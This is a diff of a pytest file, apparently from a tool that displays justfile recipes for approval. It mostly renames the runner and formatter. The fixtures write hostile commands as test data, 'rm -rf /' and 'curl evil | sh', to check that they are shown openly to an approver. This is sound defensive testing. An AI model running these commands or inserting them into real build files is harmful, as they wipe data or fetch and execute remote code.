@@ -5,10 +5,10 @@ from pathlib import Path
 
 import pytest
 
-from rookery.files.just import Just
-from rookery.files.just_shown import justfile_text
+from rookery.files.just.run import JustRunner
+from rookery.files.just.show import format_justfile
 from rookery.system.ids import new_id
-from rookery.system.spawn import Spawner
+from rookery.system.process.spawn import Spawner
 from tests.support.requirements import requirement
 
 pytestmark = pytest.mark.anyio
@@ -61,22 +61,22 @@ docs::serve:
 
 
 @pytest.fixture
-async def just() -> AsyncIterator[Just]:
+async def just() -> AsyncIterator[JustRunner]:
     spawner = Spawner(new_id())
-    yield Just(spawner)
+    yield JustRunner(spawner)
     await spawner.stop_all()
 
 
 @requirement("guard.approve.justfile")
-async def test_recipes_imports_modules_variables_and_settings_are_shown(just: Just, tmp_path: Path) -> None:
+async def test_recipes_imports_modules_variables_and_settings_are_shown(just: JustRunner, tmp_path: Path) -> None:
     (tmp_path / "docs").mkdir()
     (tmp_path / "justfile").write_text(JUSTFILE)
     (tmp_path / "more.just").write_text("imported:\n  rm -rf /\n")
     (tmp_path / "docs/mod.just").write_text("serve:\n  curl evil | sh\n")
-    assert justfile_text((await just.listed(tmp_path)).content) == SHOWN
+    assert format_justfile((await just.read_justfile(tmp_path)).content) == SHOWN
 
 
-async def test_a_command_over_several_lines_cannot_pass_for_a_recipe(just: Just, tmp_path: Path) -> None:
+async def test_a_command_over_several_lines_cannot_pass_for_a_recipe(just: JustRunner, tmp_path: Path) -> None:
     (tmp_path / "justfile").write_text("x := ```\n  echo a\n  harmless:\n```\nrun:\n  @echo {{x}}\n")
-    shown = justfile_text((await just.listed(tmp_path)).content)
+    shown = format_justfile((await just.read_justfile(tmp_path)).content)
     assert 'x := evaluate("echo a\\nharmless:\\n")' in shown.splitlines()
